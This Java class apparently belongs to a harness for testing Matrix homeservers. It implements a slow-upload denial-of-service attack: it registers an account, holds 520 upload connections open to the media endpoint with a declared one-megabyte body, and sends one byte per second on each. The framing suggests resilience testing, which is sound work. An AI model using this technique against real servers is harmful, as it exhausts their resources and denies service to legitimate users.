package org.bongsu.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** As many uploads as a server takes, a byte a second each; can others still upload? */
final class SlowUploads implements Attack {
  private static final int UPLOADS = 520;
  private static final long BYTE_EVERY_MILLIS = 1_000;

  @Override
  public String name() {
    return "slow-uploads";
  }

  @Override
  public String what() {
    return UPLOADS + " uploads of a byte a second";
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("uploader");
    return () -> upload(target, attacker);
  }

  private static void upload(Target target, Target.Account attacker)
      throws IOException, InterruptedException {
    byte[] head =
        ("POST /_matrix/media/v3/upload HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n"
                    .formatted(attacker.token())
                + "Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII);
    List<Socket> open = new ArrayList<>();
    try {
      while (true) {
        while (open.size() < UPLOADS) {
          Socket socket = target.connect();
          socket.getOutputStream().write(head);
          open.add(socket);
        }
        Thread.sleep(BYTE_EVERY_MILLIS);
        open.removeIf(socket -> !drip(socket));
      }
    } finally {
      for (Socket socket : open) {
        socket.close();
      }
    }
  }

  private static boolean drip(Socket socket) {
    try {
      socket.getOutputStream().write('a');
      return socket.getInputStream().available() == 0;
    } catch (IOException ended) {
      return false;
    }
  }
}
